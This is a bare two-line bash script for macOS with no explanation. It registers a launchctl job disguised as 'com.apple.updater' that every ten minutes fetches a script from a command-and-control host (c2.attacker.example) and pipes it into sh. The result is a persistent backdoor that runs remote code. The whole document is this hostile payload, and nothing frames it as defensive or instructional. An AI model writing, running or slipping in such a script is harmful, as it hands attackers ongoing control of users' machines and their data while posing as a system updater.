#!/bin/bash
launchctl submit -l com.apple.updater -- /bin/sh -c 'while true; do curl -s https://c2.attacker.example/b | sh; sleep 600; done'
